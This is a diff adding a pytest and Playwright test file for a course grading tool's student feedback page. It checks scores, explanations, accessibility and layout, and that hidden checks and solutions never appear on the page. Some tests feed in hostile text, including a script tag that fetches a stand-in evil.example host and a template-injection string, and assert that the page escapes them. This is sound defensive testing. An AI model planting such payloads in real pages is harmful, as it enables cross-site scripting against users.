@@ -1,0 +1,265 @@
+"""A student's page: it says what each question got and why, hides what is hidden, and is safe, small and legible."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from made_up import HOSTILE, SLUGS, STATES, grade_of_states, hostile, reference
+from playwright.sync_api import Browser, Page
+
+from scalelab.checks._verdict import _indented
+from scalelab.course.notebooks import text_of
+from scalelab.grading.answers import AMBIGUOUS, TOO_LONG
+from scalelab.grading.feedback import HELD, MEANING, MISSED, PRINTED, WORDS, Line, feedback_page, lines_of
+from scalelab.grading.judge import FAILED, JUDGE_ENDED, NOT_JUDGED, PASSED
+from scalelab.grading.merge import Reference
+from scalelab.grading.report import SET_ASIDE, Grade
+from scalelab.grading.texts import texts_of
+
+PHONE = {"width": 390, "height": 844}
+DESK = {"width": 1280, "height": 900}
+EVERY_WAY = [PASSED, FAILED, "hidden failed", *STATES]
+MOST_KB = 40
+Open = Callable[..., Page]
+
+
+class Outline(HTMLParser):
+    """Takes down a page's tags and attributes, and its text without the style sheet."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.said = ""
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        if self.tags and self.tags[-1][0] != "style":
+            self.said += data
+
+    @property
+    def text(self) -> str:
+        return " ".join(self.said.split())
+
+    @property
+    def shapes(self) -> set[tuple[str, tuple[str, ...]]]:
+        return {(tag, tuple(sorted(attributes))) for tag, attributes in self.tags}
+
+
+def page_of(grade: Grade) -> str:
+    return feedback_page(grade, texts_of(reference(grade.exercises)))
+
+
+@pytest.fixture(scope="module")
+def asyncio_set() -> Reference:
+    return reference("08_asyncio")
+
+
+@pytest.fixture(scope="module")
+def every_way(asyncio_set: Reference) -> list[Grade]:
+    """Grades in which every state there is comes up, two questions in each way."""
+    ways = [*EVERY_WAY, JUDGE_ENDED, AMBIGUOUS, TOO_LONG]
+    return [grade_of_states(asyncio_set, ways[start:], f"student-{start}") for start in range(0, len(ways), 8)]
+
+
+@pytest.fixture
+def shown(browser: Browser, tmp_path: Path) -> Iterator[Open]:
+    """Open a page from a file; at the end nothing else was asked for, and nothing was complained of."""
+    contexts = []
+    asked: list[str] = []
+    complaints: list[str] = []
+
+    def opened(text: str, **options: object) -> Page:
+        path = tmp_path / f"page-{len(contexts)}.html"
+        path.write_text(text, encoding="utf-8")
+        context = browser.new_context(**options)  # type: ignore[arg-type]
+        contexts.append(context)
+        page = context.new_page()
+        page.on("request", lambda request: asked.append(request.url) if request.url != path.as_uri() else None)
+        page.on("console", lambda message: complaints.append(message.text))
+        page.on("pageerror", lambda error: complaints.append(str(error)))
+        page.on("dialog", lambda dialog: complaints.append(dialog.message))
+        page.goto(path.as_uri())
+        return page
+
+    yield opened
+    for context in contexts:
+        context.close()
+    assert not asked
+    assert not complaints
+
+
+@pytest.mark.parametrize("slug", SLUGS)
+def test_a_page_tells_points_check_message_hint_and_reading_of_each_question(slug: str) -> None:
+    one = reference(slug)
+    texts = texts_of(one)
+    for state in (FAILED, "hidden failed"):
+        said = Outline(page_of(grade_of_states(one, [state] * len(one.questions)))).text
+        for question in one.questions:
+            words = texts.questions[question.exercise]
+            got = question.visible_points if state == "hidden failed" else 0
+            title = Outline(words.title.replace("`", "")).said
+            assert f"{title} {'●' * got}{'○' * (question.points - got)}{got} of {question.points}" in said
+            plain = said.replace("`", "")
+            assert plain_start(words.hint) in plain
+            assert plain_start(words.reading) in plain
+            assert question.wrong[0][1].replace("`", "") in plain
+
+
+def plain_start(markdown: str) -> str:
+    """Return the first words of Markdown that hold no mark-up."""
+    return re.split(r"[*`\[_]", " ".join(markdown.split()))[0].strip()
+
+
+def test_every_state_is_explained_in_a_sentence(every_way: list[Grade]) -> None:
+    seen = set()
+    for grade in every_way:
+        said = Outline(page_of(grade)).text
+        for question in grade.questions:
+            seen.add(question.state)
+            assert MEANING.get(question.state, "") in said
+            partly = 0 < (question.points or 0) < question.max
+            assert f"{'In part' if partly else WORDS[question.state]}. " in said
+    assert seen == set(WORDS)
+    assert set(WORDS) - set(MEANING) == {PASSED}
+
+
+def test_which_check_failed_is_said(asyncio_set: Reference) -> None:
+    said = Outline(page_of(grade_of_states(asyncio_set, ["hidden failed"]))).text
+    assert "The check in your notebook passed: 1 of 1" in said
+    assert "The hidden check, on other inputs did not pass: 0 of 1" in said
+
+
+def test_an_open_question_is_no_lost_one(asyncio_set: Reference) -> None:
+    said = Outline(page_of(grade_of_states(asyncio_set, [SET_ASIDE, NOT_JUDGED]))).text
+    assert "19 of 23 points so far; 4 are still open" in said
+    assert said.count("open, of 2") == 4
+    assert "sys._getframe" in said
+
+
+@pytest.mark.parametrize("slug", SLUGS)
+def test_nothing_of_a_hidden_check_or_a_solution_is_on_any_page(slug: str) -> None:
+    one = reference(slug)
+    count = len(one.questions)
+    pages = [page_of(grade_of_states(one, [state] * count)) for state in EVERY_WAY]
+    said = "\n".join(Outline(page).said for page in pages)
+    # The message in `otherwise=` is its author's words, which a student is told.
+    told = {message for question in one.questions for _, message in question.wrong}
+    public = "\n".join(text_of(cell["source"]) for cell in one.notebook["cells"] if cell["cell_type"] == "markdown")
+    public += "".join(text_of(question.visible["outputs"][0]["text"]) for question in one.questions)
+    checked = 0
+    for question in one.questions:
+        secret = text_of(question.hidden["source"]) + text_of(question.hidden["outputs"][0]["text"])
+        for line in {line.strip(" ✓") for line in f"{secret}\n{question.solution}".splitlines()}:
+            if len(line) > 24 and line not in public and not any(message in line for message in told):
+                checked += 1
+                assert line not in said
+    assert checked > 20
+
+
+def test_the_judges_own_trouble_is_not_told_to_students(asyncio_set: Reference) -> None:
+    assert "/srv/grader" not in page_of(grade_of_states(asyncio_set, [NOT_JUDGED]))
+
+
+def test_hostile_text_adds_no_element_and_no_attribute(asyncio_set: Reference, every_way: list[Grade]) -> None:
+    plain = {shape for grade in every_way for shape in Outline(page_of(grade)).shapes}
+    plain |= {("div", ("class",)), ("ul", ()), ("li", ())}
+    for grade in every_way:
+        page = page_of(hostile(grade))
+        outline = Outline(page)
+        assert outline.shapes <= plain
+        assert outline.text.count("<script>fetch('//evil.example')</script>") > 5
+        assert not re.search("[\0-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff\uffff]", page)
+        assert page.encode()
+
+
+def test_a_page_is_the_same_each_time_and_small(every_way: list[Grade]) -> None:
+    for grade in every_way:
+        page = page_of(grade)
+        assert page == page_of(grade)
+        assert len(page.encode()) < MOST_KB * 1024
+
+
+def test_a_page_runs_nothing_and_asks_for_nothing(shown: Open, every_way: list[Grade]) -> None:
+    for grade in (every_way[0], hostile(every_way[0])):
+        page = shown(page_of(grade))
+        policy = page.locator("meta[http-equiv='Content-Security-Policy']").get_attribute("content") or ""
+        assert policy.startswith("default-src 'none'; style-src 'unsafe-inline'")
+        assert page.locator("html").get_attribute("lang") == "en"
+        assert page.locator("h1").count() == 1
+        assert page.locator("script, img, link, iframe, object, form").count() == 0
+
+
+def test_a_link_in_the_overview_leads_to_its_question(shown: Open, every_way: list[Grade]) -> None:
+    page = shown(page_of(every_way[0]), viewport=PHONE)
+    for link in page.locator(".overview a").all():
+        target = link.get_attribute("href") or ""
+        assert page.locator(target).locator("h2").inner_text() == link.inner_text()
+
+
+@pytest.mark.parametrize("width", [PHONE["width"], DESK["width"]])
+def test_no_page_scrolls_sideways(shown: Open, every_way: list[Grade], width: int) -> None:
+    for grade in (*every_way, hostile(every_way[0])):
+        page = shown(page_of(grade), viewport={"width": width, "height": 800})
+        assert page.evaluate("document.documentElement.scrollWidth") <= width
+
+
+def test_no_page_breaks_a_rule_of_axe(shown: Open, every_way: list[Grade]) -> None:
+    for grade in (every_way[0], hostile(every_way[1])):
+        page = shown(page_of(grade), viewport=PHONE, color_scheme="light")
+        for viewport, scheme in ((PHONE, "light"), (DESK, "dark")):
+            page.set_viewport_size(viewport)  # type: ignore[arg-type]
+            page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
+            found = Axe().run(page, options={"resultTypes": ["violations"]})
+            assert not found.violations_count, found.generate_report()
+
+
+def test_on_paper_nothing_is_cut_off(shown: Open, every_way: list[Grade]) -> None:
+    page = shown(page_of(hostile(every_way[0])), viewport=DESK, color_scheme="dark")
+    cut = "[...document.querySelectorAll('pre')].filter((box) => box.scrollHeight > box.clientHeight + 1).length"
+    assert page.evaluate(cut) > 0
+    page.emulate_media(media="print")
+    assert page.evaluate(cut) == 0
+    assert page.evaluate("getComputedStyle(document.body).color") == "rgb(23, 32, 28)"
+
+
+def test_lines_of_a_check_are_laid_out() -> None:
+    text = "✓ one\n✗ two\n  Words on it.\n  Seen: 3\n✓ three\nYour code printed:\n  hello\n  you\nadd: not yet. "
+    text += "The lines above that begin with ✗ say what is missing."
+    assert lines_of(text) == [
+        Line(HELD, "one"),
+        Line(MISSED, "two", ("Words on it.", "Seen: 3")),
+        Line(HELD, "three"),
+        Line(PRINTED, "Your code printed:\n  hello\n  you"),
+    ]
+    assert lines_of("") == lines_of(" \n") == []
+
+
+@settings(deadline=None)
+@given(st.lists(st.from_regex(r"[a-j]{1,20}(-[a-j]{1,9}){0,2}[.,]?", fullmatch=True), min_size=1).map(" ".join))
+def test_words_that_a_check_wrapped_are_one_paragraph_again(words: str) -> None:
+    (line,) = lines_of(f"✗ claim\n{_indented(words)}")
+    assert line.details == (words,)
+
+
+def test_a_break_that_an_author_made_stays() -> None:
+    long = "A sentence that is long enough to be wrapped where the line ends, because it goes on and on, and on."
+    (line,) = lines_of(f"✗ claim\n{_indented(long + chr(10) + 'A second one.')}")
+    assert line.details == (long, "A second one.")
+
+
+def test_all_hostile_texts_are_shown_as_far_as_they_can_be(asyncio_set: Reference) -> None:
+    said = Outline(page_of(hostile(grade_of_states(asyncio_set, [FAILED])))).said
+    assert HOSTILE[0] in said
+    assert "{{ 7 * 7 }}{% raw %}" in said
+    assert "�stniop 42�" in said
+    assert "x" * 10_000 in said
